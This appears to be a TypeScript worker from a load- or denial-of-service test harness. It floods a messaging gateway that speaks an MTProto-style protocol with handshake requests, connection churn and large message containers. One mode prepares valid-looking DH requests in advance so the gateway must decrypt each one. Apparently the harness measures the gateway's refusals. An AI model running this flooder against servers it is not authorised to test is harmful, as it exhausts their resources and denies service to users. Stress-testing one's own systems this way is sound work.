import { randomBytes } from 'node:crypto';
import { parentPort, workerData } from 'node:worker_threads';
import { encode, begun, makeKey } from '../client/person';
import { HANDSHAKE, KeyExchange } from '../client/key-exchange';
import { containerBody, messageId, pingBody, Session } from '../client/session';
import { int32, int64, tlBytes } from '../client/tl-bytes';
import { Wire, transportError } from '../client/wire';
import type { FloodOrder, FloodReport } from './messages';

const CONNECTIONS = 24;
/** Queries of a handshake that a connection may have waiting at the gateway. */
const PIPELINED = 8;
const CONTAINER_MESSAGES = 1_024;
const TURN_MS = 5;

const order = workerData as FloodOrder;
const report = { sent: 0, answered: 0, closed: 0, refusals: {} as Record<string, number> };

const unencrypted = (body: Buffer): Buffer => Buffer.concat([Buffer.alloc(8), int64(messageId()), int32(body.length), body]);

/** Connections from the order's address that are opened again when they are closed. */
class Attackers {
  private readonly wires: (Wire | undefined)[] = [];
  private readonly waiting: number[] = [];

  /** Some connection with room; undefined when all are busy or being opened. */
  take(): Wire | undefined {
    for (let index = 0; index < CONNECTIONS; index++) {
      const wire = this.wires[index];
      if (wire === undefined) this.open(index);
      else if (!wire.closed && (this.waiting[index] as number) < PIPELINED) {
        this.waiting[index] = (this.waiting[index] as number) + 1;
        return wire;
      }
    }
    return undefined;
  }

  private open(index: number): void {
    if (this.waiting[index] === -1) return;
    this.waiting[index] = -1;
    Wire.open(order.gateway, { localAddress: order.address }).then((wire) => {
      this.wires[index] = wire;
      this.waiting[index] = 0;
      wire.onFrame = (frame) => {
        this.waiting[index] = Math.max(0, (this.waiting[index] as number) - 1);
        const error = transportError(frame);
        if (error === undefined) report.answered += 1;
        else report.refusals[error] = (report.refusals[error] ?? 0) + 1;
      };
      wire.socket.on('close', () => {
        report.closed += 1;
        this.wires[index] = undefined;
        this.waiting[index] = 0;
      });
    }, () => {
      this.waiting[index] = 0;
    });
  }

  close(): void {
    for (const wire of this.wires) wire?.close();
  }
}

/** Calls `attack` at the order's rate for its time; what can't be done in time isn't made up for. */
async function atRate(attack: () => boolean | void): Promise<void> {
  const began = performance.now();
  let done = 0;
  while (performance.now() - began < order.durationMs) {
    const due = ((performance.now() - began) / 1_000) * order.perSecond;
    for (; done < due; done++) {
      if (attack() === false) {
        done = Math.ceil(due);
        break;
      }
      report.sent += 1;
    }
    await new Promise((resolve) => setTimeout(resolve, TURN_MS));
  }
}

async function handshakes(query: () => Buffer): Promise<void> {
  const attackers = new Attackers();
  await atRate(() => {
    const wire = attackers.take();
    wire?.send(unencrypted(query()));
    return wire !== undefined;
  });
  attackers.close();
}

/** Queries that pass every cheap check, so that the gateway has to decrypt: prepared before, fired at once. */
async function factoredHandshakes(): Promise<void> {
  const prepared: { wire: Wire; packet: Buffer }[] = [];
  for (let i = 0; i < order.perSecond; i++) {
    const wire = await Wire.open(order.gateway, { localAddress: order.address });
    const exchange = new KeyExchange(wire, order.gateway);
    const pq = await exchange.requestPq();
    const query = Buffer.concat([int32(HANDSHAKE.reqDh), pq.nonce, pq.serverNonce, tlBytes(pq.p), tlBytes(pq.q), int64(order.gateway.fingerprint), tlBytes(Buffer.concat([Buffer.alloc(1), randomBytes(255)]))]);
    prepared.push({ wire, packet: unencrypted(query) });
  }
  parentPort?.postMessage('begun');
  for (const { wire, packet } of prepared) {
    wire.onFrame = (frame) => {
      const error = transportError(frame);
      report.refusals[String(error)] = (report.refusals[String(error)] ?? 0) + 1;
    };
    wire.send(packet);
    report.sent += 1;
  }
  await new Promise((resolve) => setTimeout(resolve, order.durationMs));
  for (const { wire } of prepared) wire.close();
}

async function connections(): Promise<void> {
  await atRate(() => {
    Wire.open(order.gateway, { localAddress: order.address }).then((wire) => {
      report.answered += 1;
      wire.close();
    }, () => {
      report.closed += 1;
    });
  });
}

async function containers(body: () => Buffer): Promise<void> {
  const key = await makeKey(order.gateway, {}, { localAddress: order.address });
  const sessions = await Promise.all(Array.from({ length: 4 }, () => Session.open(order.gateway, key, { localAddress: order.address })));
  for (const session of sessions) await session.ping();
  for (const session of sessions) {
    session.wire.onFrame = () => {
      report.answered += 1;
    };
  }
  let turn = 0;
  await atRate(() => {
    const session = sessions[(turn += 1) % sessions.length] as Session;
    if (session.wire.socket.writableLength > 1_048_576 || session.wire.closed) return false;
    const parts = Array.from({ length: CONTAINER_MESSAGES }, () => ({ id: messageId(), seqNo: session.nextSeqNo(), body: body() }));
    session.send(containerBody(parts), { seqNo: session.nextSeqNo(false) });
    return true;
  });
  for (const session of sessions) {
    if (session.wire.closed) report.closed += 1;
    session.close();
  }
}

async function flood(): Promise<void> {
  const ping = pingBody();
  const query = begun(encode('help.getNearestDc', {}));
  if (order.kind !== 'req_DH_params') parentPort?.postMessage('begun');
  switch (order.kind) {
    case 'req_pq': await handshakes(() => Buffer.concat([int32(HANDSHAKE.reqPqMulti), randomBytes(16)])); break;
    case 'garbage req_DH_params': await handshakes(() => Buffer.concat([int32(HANDSHAKE.reqDh), randomBytes(32), tlBytes(randomBytes(4)), tlBytes(randomBytes(4)), int64(order.gateway.fingerprint), tlBytes(randomBytes(256))])); break;
    case 'req_DH_params': await factoredHandshakes(); break;
    case 'connections': await connections(); break;
    case 'pings': await containers(() => ping); break;
    case 'queries': await containers(() => query); break;
  }
  parentPort?.postMessage(report satisfies FloodReport);
}

void flood();
